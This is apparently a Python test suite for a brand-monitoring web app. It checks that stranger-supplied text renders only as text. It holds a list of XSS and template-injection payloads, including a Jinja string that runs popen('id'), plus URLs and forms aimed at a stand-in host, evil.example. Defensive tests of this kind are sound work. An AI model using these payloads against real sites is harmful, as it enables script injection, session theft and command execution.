"""Words of strangers are shown, never obeyed."""

import json
from datetime import timedelta
from urllib.parse import quote, urlsplit
from uuid import uuid4

import httpx

from alerts import text
from alerts.types import BrandId, MentionId, RuleKind, RuleMode, Urgency
from collectors.types import Author, SourceKind
from service.store import brand, clock, contact, correction, fetch, rule, source, tryout
from service.store.fetch import Counts, Outcome
from service.store.pool import Connection, Pool
from service.web import render
from tests import make
from tests.service.web import seed
from tests.service.web.reading import Page

#: Every way into a page we know of: text, attributes, addresses, styles, scripts, templates, entities, comments.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</p></div></main><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" style="display:none">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=java&#9;script:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(//evil.example)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    '"; alert(1); //',
    "'-alert(1)-'",
    '\\"-alert(1)//',
    "${alert(1)}",
    "{{ 7 * 7 }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{# nothing #}{{ csrf }}",
    "%(n)s %s %d {0} {n}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<mark>not ours</mark>",
    "\u202egpj.exe\u202c <b>turned</b>",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)//",
    'http://evil.example/"onmouseover=alert(1)//',
)
_URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>",
    "https://bank.example@evil.example/",
    "//evil.example",
    "/\\evil.example",
    "https://ok.example/\nSet-Cookie:x",
    " https://ok.example/ ",
)


async def tell(pool: Pool, conn: Connection, n: int, payload: str) -> None:
    """Put a payload everywhere a stranger or a settings file may put words, and let it make an incident."""
    now = await clock.now(conn)
    brand_id = await brand.ensure(conn, payload, now=now)
    source_id = await source.put(
        conn,
        brand_id=brand_id,
        kind=SourceKind.FEED,
        name=payload,
        settings={"url": "http://127.0.0.1/feed"},
        interval=timedelta(minutes=5),
        allow_private=True,
        enabled=True,
        now=now,
    )
    rule_id = await rule.put(
        conn,
        brand_id=brand_id,
        kind=RuleKind.ANGRY_MENTION,
        name=payload,
        settings={},
        mode=RuleMode.ACTIVE,
        urgency=Urgency.URGENT,
        now=now,
    )
    contact_id = await contact.put(
        conn, name=payload, email=f"{payload.replace('@', '')}@x", language="en", enabled=True, now=now
    )
    await contact.tie(conn, rule_id, [contact_id])
    mention = make.mention(
        id=payload,
        site=payload,
        url=_URLS[n % len(_URLS)],
        author=Author(id=payload, name=payload, url=_URLS[n % len(_URLS)]),
        title=f"title {payload}",
        text=payload,
        language=payload,
        published_at=now,
    )
    await seed.tell(pool, brand_id, source_id, [mention], seed.AngryAnalyser())
    said = {"label": "neutral", "anger_level": 0, "causes": ["trust"]}
    await correction.correct(conn, MentionId(n + 1), said, by=payload, now=now)
    await _try(conn, payload, brand_id, n)
    await conn.execute("update mention set terms = array[$2] where source_id = $1", source_id, payload)
    await fetch.record(
        conn, source_id, started_at=now, finished_at=now, outcome=Outcome.FAILED, seen=0, counts=Counts(), error=payload
    )
    await conn.execute("update source set error = $2, error_count = 1 where id = $1", source_id, payload)


async def _try(conn: Connection, payload: str, brand_id: BrandId, n: int) -> None:
    """Let a place that somebody tries bring the payload, or answer with it."""
    now = await clock.now(conn)
    draft = tryout.Draft(
        brand_id=brand_id,
        source_id=None,
        kind=SourceKind.FEED,
        name=payload,
        settings={"url": payload, "site": payload},
        interval=timedelta(minutes=5),
        allow_private=False,
        match=False,
    )
    await tryout.add(conn, draft, by=payload, now=now)
    token = uuid4()
    wanted = await tryout.claim(conn, now=now, lease=timedelta(minutes=1), token=token)
    assert wanted
    shown = dict.fromkeys(("site", "author", "title", "text", "url", "language", "published_at"), payload)
    found = {"seen": 1, "mentions": [shown], "quarantined": 1, "warning": payload}
    is_heard = n % 2 == 0
    await tryout.finish(
        conn, wanted.id, token, error=None if is_heard else payload, found=found if is_heard else None, now=now
    )


async def test_no_payload_becomes_an_element_an_attribute_or_an_address(
    browser: httpx.AsyncClient, pool: Pool, conn: Connection
) -> None:
    for n, payload in enumerate(PAYLOADS):
        await tell(pool, conn, n, payload)
    await conn.execute("update component set healthy = false, detail = $1", PAYLOADS[0])
    calm = _kinds(Page((await browser.get("/sign-in")).text)) | _OURS
    letters = {row["incident_id"]: row["id"] for row in await conn.fetch("select id, incident_id from notification")}
    addresses = ["/", "/?brand=3", "/mentions", "/incidents", "/outbox", "/stories", "/causes", "/compare", "/authors"]
    addresses += ["/quality", "/sources", "/rules", "/settings/brands", "/settings/keys"]
    for n in range(1, len(PAYLOADS) + 1):
        addresses += [f"/mentions/{n}", f"/incidents/{n}", f"/outbox/{letters[n]}", f"/settings/brands/{n}"]
        addresses += [f"/stories/{n}", f"/sources/{n}", f"/add-source?change={n}", f"/add-source/{n}"]
    for address in addresses:
        page = Page((await browser.get(address)).text)

        assert not page.dangers(), address
        assert not _kinds(page) - calm, address
        assert not [link for link in page.all("a") if "evil.example" in urlsplit(str(link.get("href"))).netloc]


#: What our own pages are made of; one word more on a page came out of a payload.
_OURS = {
    *("html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "section", "article"),
    *("footer", "div", "span", "p", "a", "ul", "ol", "li", "dl", "dt", "dd", "h1", "h2", "h3", "table", "thead"),
    *("tbody", "tr", "th", "td", "form", "input", "button", "label", "select", "option", "fieldset", "legend"),
    *("details", "summary", "time", "bdi", "mark", "meter", "iframe", "pre", "code", "svg", "path", "g", "circle"),
    *("rect", "br", "dialog", "kbd", "strong", "em", "textarea"),
}


def _kinds(page: Page) -> set[str]:
    return {tag for tag, _ in page.elements}


async def test_each_payload_is_shown_as_it_was_written(
    browser: httpx.AsyncClient, pool: Pool, conn: Connection
) -> None:
    for n, payload in enumerate(PAYLOADS):
        await tell(pool, conn, n, payload)
    for n, payload in enumerate(PAYLOADS, start=1):
        page = Page((await browser.get(f"/mentions/{n}")).text)

        assert text.body(payload) in page.words


async def test_payloads_in_addresses_come_back_as_words(browser: httpx.AsyncClient) -> None:
    for payload in PAYLOADS:
        everywhere = dict.fromkeys(("q", "author", "language", "next", "token", "status", "period", "older"), payload)
        for path in ("/mentions", "/sign-in", "/incidents", "/", f"/{quote(payload, safe='')}"):
            answer = await browser.get(path, params=everywhere)

            assert not Page(answer.text).dangers()


async def test_the_drawing_holds_payloads_as_data_only(
    browser: httpx.AsyncClient, pool: Pool, conn: Connection
) -> None:
    await tell(pool, conn, 0, PAYLOADS[0])
    answer = await browser.get("/chart", params={"brand": "1", "period": PAYLOADS[0]})

    assert answer.headers["content-type"] == "application/json"
    assert "<script" not in json.dumps(answer.json())


async def test_the_framed_letter_shows_payloads_under_a_policy_that_runs_nothing(
    browser: httpx.AsyncClient, pool: Pool, conn: Connection
) -> None:
    await tell(pool, conn, 0, PAYLOADS[0])
    letter = await conn.fetchval("select id from notification")
    answer = await browser.get(f"/outbox/{letter}/html")

    assert answer.headers["content-security-policy"] == render.MAIL_POLICY
    assert "<script" not in answer.text
